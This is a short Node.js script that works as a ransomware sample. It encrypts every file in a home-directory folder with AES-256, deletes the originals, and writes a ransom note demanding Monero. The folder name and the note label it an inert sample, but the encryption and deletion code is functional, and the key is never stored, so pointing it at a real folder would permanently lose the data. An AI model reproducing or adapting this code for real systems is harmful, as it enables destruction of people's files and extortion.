const fs = require("fs"), path = require("path"), os = require("os"), crypto = require("crypto");
const key = crypto.randomBytes(32), iv = crypto.randomBytes(16);
const root = path.join(os.homedir(), "inert-sample-that-is-not-there");

function each(folder) {
  for (const entry of fs.readdirSync(folder)) {
    const file = path.join(folder, entry);
    const cipher = crypto.createCipheriv("aes-256-cbc", key, iv);
    const locked = Buffer.concat([cipher.update(fs.readFileSync(file)), cipher.final()]);
    fs.writeFileSync(file + ".inert", locked);
    fs.unlinkSync(file);
  }
}

each(root);
fs.writeFileSync(path.join(root, "HOW.txt"), "All your files are encrypted. Pay in monero to decrypt. A sample, inert.");
